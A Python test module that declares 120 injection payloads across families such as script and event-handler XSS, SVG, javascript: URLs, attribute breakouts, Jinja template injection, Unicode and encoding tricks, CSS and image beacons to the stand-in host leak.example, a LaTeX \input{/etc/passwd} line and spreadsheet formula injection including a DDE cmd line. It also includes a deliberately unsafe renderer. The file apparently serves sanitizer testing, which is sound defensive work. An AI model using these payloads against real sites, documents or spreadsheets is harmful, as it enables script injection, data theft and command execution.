"""Texts that try to be more than text: 120 of them, by the reader that each is written for.

A payload of the families that a browser reads calls ``fired`` with its number, or asks ``leak.example`` for it.
`naive` is the page of somebody who joins text and markup: it shows which payloads would have worked.
"""

from __future__ import annotations

import base64
import html
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from types import MappingProxyType
from urllib.parse import unquote

import jinja2
import pypandoc

__all__ = ["FAMILIES", "HOST", "PAYLOADS", "Payload", "naive", "shown_words", "text_of"]

HOST = "leak.example"
INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")
"""What no reader sees; the tables of a pack are read without it."""

# {c} calls the browser back, {n} is a number, {b} and {d} are the call and a script element in base64
_DECLARED: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{c}</script>",
        "<SCRIPT>{c}</SCRIPT>",
        "<script\u3000x>{c}</script><script >{c}</script >",
        "<script/x>{c}</script>",
        '<script src="data:text/javascript,{c}"></script>',
        "<script type=module>{c}</script>",
        "</script><script>{c}</script>",
        "<<script>{c}//<</script>",
        "<script>/*<!--*/{c}/*-->*/</script>",
        '<script async>eval(atob("{b}"))</script>',
        '<noscript><p title="</noscript><script>{c}</script>">',
    ),
    "handler": (
        "<img src=x onerror={c}>",
        "<img src='x'onerror={c}>",
        '<IMG SRC="x" OnErRoR="{c}">',
        "<img src onerror='{c}'>",
        "<image src=x onerror={c}>",
        "<body onload={c}>",
        "<body onpageshow={c}>",
        "<input autofocus onfocus={c}>",
        "<select autofocus onfocus={c}></select>",
        "<details open ontoggle={c}><summary>s</summary></details>",
        "<video src=x onerror={c}></video>",
        "<video><source src=x onerror={c}></video>",
        "<audio src=x onerror={c}></audio>",
        "<iframe onload={c}></iframe>",
        "<style onload={c}></style>",
        "<link rel=stylesheet href=data:text/css, onload={c}>",
        "<b onmouseover={c}>b</b>",
        "<a href=# onclick={c}>a</a>",
        '<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart={c}>b</b>',
    ),
    "svg": (
        "<svg onload={c}>",
        "<svg/onload={c}>",
        "<svg><script>{c}</script></svg>",
        "<svg><script>fired&#40;{n}&#41;</script></svg>",
        '<svg><script xlink:href="data:text/javascript,{c}"></script></svg>',
        "<svg><animate onbegin={c} attributeName=x dur=1s>",
        "<svg><image href=x onerror={c}></svg>",
        '<svg><a xlink:href="javascript:{c}"><text y=20>t</text></a></svg>',
        "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
        "<svg><style><img src=x onerror={c}></style></svg>",
        "<math><mtext></p><img src=x onerror={c}></math>",
    ),
    "frame": (
        '<iframe src="javascript:{c}"></iframe>',
        '<iframe srcdoc="<script>{c}</script>"></iframe>',
        "<iframe srcdoc='&lt;script&gt;{c}&lt;/script&gt;'></iframe>",
        '<iframe src="data:text/html,<script>{c}</script>"></iframe>',
        '<object data="data:text/html,<script>{c}</script>"></object>',
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>\">",
        '<form action="javascript:{c}"><button>send</button></form>',
        '<form><button formaction="javascript:{c}">send</button></form>',
        '<base href="javascript:/"><a href="/,{c}">a</a><svg onload={c}>',
    ),
    "address": (
        "javascript:{c}",
        "JaVaScRiPt:{c}",
        "javascript://example.org/%0a{c}",
        "java&#9;script:{c}",
        "&#106;avascript:{c}",
        "javascript&colon;{c}",
        "data:text/html,<script>{c}</script>",
        "data:text/html;base64,{d}",
        'https://example.org/" onmouseover="{c}',
        "https://example.org/' onmouseover='{c}",
        'https://example.org/"><script>{c}</script>',
        '#" onfocus="{c}" tabindex="0',
        "mailto:a@example.org?subject=<svg onload={c}>",
    ),
    "attribute": (
        '" onmouseover="{c}',
        "' onmouseover='{c}",
        '" onfocus={c} tabindex=0 x="',
        '"><img src=x onerror={c}>',
        "'><img src=x onerror={c}>",
        '"/><svg onload={c}>',
        "-->'\"><script>{c}</script><!--",
        "]]><script>{c}</script>",
        "</title></textarea></style><script>{c}</script>",
        "</td></tr></table></section><svg onload={c}>",
    ),
    "parser": (
        "<!--><img src=x onerror={c}>-->",
        "<!-- --!><img src=x onerror={c}>",
        "<![CDATA[><img src=x onerror={c}>]]>",
        "<?xml ?><svg onload={c}>",
        '<xmp><p title="</xmp><svg onload={c}>">',
        '<textarea><p title="</textarea><svg onload={c}>">',
    ),
    "code": ("'-{c}-'", '"-{c}-"', "${{{c}}}", "'+{c}+'", "';{c};'"),
    "style": (
        '<style>@import "https://leak.example/{n}.css";</style>',
        "<style>*{{background:url(https://leak.example/{n})}}</style>",
        '<b style="background:url(https://leak.example/{n})">b</b>',
        "<link rel=stylesheet href=https://leak.example/{n}.css>",
        "</style><svg onload={c}><style>",
    ),
    "request": (
        "<img src=https://leak.example/{n}>",
        '<img srcset="https://leak.example/{n} 1x">',
        "<video poster=https://leak.example/{n}></video>",
        "<iframe src=https://leak.example/{n}></iframe>",
        "<script src=https://leak.example/{n}.js></script>",
        "<svg><image href=https://leak.example/{n} /></svg>",
        "![x](https://leak.example/{n})<img src=https:leak.example/{n}>",
    ),
    "markdown": (
        "[click](javascript:{c})",
        "[click](<javascript:{c}>)",
        "`<svg onload={c}>`{{=html}}",
        "**<svg onload={c}>**",
        "# <svg onload={c}>",
        "| <img src=x onerror={c}> | b |",
    ),
    "template": (
        '{{{{ "<svg onload={c}>" }}}}',
        '{{% print("<svg onload={c}>") %}}',
        "{{{{ 7 * 7 }}}}<svg onload={c}>",
        "{{% raw %}}<svg onload={c}>{{% endraw %}}",
        "<%= 7 %> {{0.__class__}} %(x)s<svg onload={c}>",
    ),
    "encoded": (
        "&lt;script&gt;{c}&lt;/script&gt;",
        "&#60;svg onload={c}&#62;",
        "&amp;lt;svg onload={c}&amp;gt;",
        "%3Csvg onload={c}%3E",
        "\\u003csvg onload={c}\\u003e",
    ),
    "unicode": (
        "＜script＞{c}＜/script＞",
        "﹤svg onload={c}﹥",
        "\u202e<svg onload={c}>\u202c",
        "<s\u200bcript>{c}</s\u200bcript>",
        "<\u00adsvg onload={c}>",
        "<ſcript>{c}</ſcript>",
    ),
    "print": (
        "#({n} + 1000000)",
        '#eval("{n} + 1000000")',
        "#[#str({n} + 1000000)]",
        "$\\frac{{{n}$ of $5m",
        "\\input{{/etc/passwd}}{n}",
    ),
    "formula": (
        "={n}+1",
        '=HYPERLINK("https://leak.example/{n}","x")',
        "=cmd|' /C calc'!A{n}",
        '=WEBSERVICE("https://leak.example/{n}")',
        "+{n}+1",
        "-{n}+1",
        "@SUM(1,{n})",
    ),
}


@dataclass(frozen=True, slots=True)
class Payload:
    """One text: its place among the 120, the reader that it is written for, and its pattern."""

    place: int
    family: str
    pattern: str


PAYLOADS = tuple(
    Payload(place, family, pattern)
    for place, (family, pattern) in enumerate(
        (family, pattern) for family, patterns in _DECLARED.items() for pattern in patterns
    )
)
FAMILIES = MappingProxyType(
    {family: tuple(payload for payload in PAYLOADS if payload.family == family) for family in _DECLARED}
)


def text_of(payload: Payload, number: int) -> str:
    """A payload as a pack holds it, calling with this number."""
    call = f"fired({number})"
    coded = [base64.b64encode(text.encode()).decode("ascii") for text in (call, f"<script>{call}</script>")]
    return payload.pattern.format(c=call, n=number, b=coded[0], d=coded[1])


def shown_words(text: str) -> str:
    """What a reader sees of a text that stayed text, whatever breaks its lines; a label may begin with a capital."""
    return re.sub(r"\s+", " ", unicodedata.normalize("NFC", INVISIBLE.sub("", text))).strip().casefold()


def naive(payload: Payload, number: int) -> str:
    """The page of somebody who joins text and markup, and undoes on the way what a payload is dressed in."""
    text = UNDRESSED.get(payload.family, str)(text_of(payload, number))
    return (
        f'<!DOCTYPE html><p>{text}</p><a href="{text}">a</a><b title=\'{text}\'>b</b><b title="{text}">c</b>'
        f"<script>var t='{text}'</script><script>var t=\"{text}\"</script><script>var t=`{text}`</script>"
    )


def _from_markdown(text: str) -> str:
    return str(pypandoc.convert_text(text, "html", format="markdown"))


def _from_template(text: str) -> str:
    return str(jinja2.Template(text).render())  # unescaped, as somebody would who trusts the text


def _decoded(text: str) -> str:
    plain = html.unescape(html.unescape(unquote(text)))
    return re.sub(r"\\u([0-9a-f]{4})", lambda found: chr(int(found.group(1), 16)), plain)


def _folded(text: str) -> str:
    return INVISIBLE.sub("", unicodedata.normalize("NFKC", text))


UNDRESSED: dict[str, Callable[[str], str]] = {
    "markdown": _from_markdown,
    "template": _from_template,
    "encoded": _decoded,
    "unicode": _folded,
}
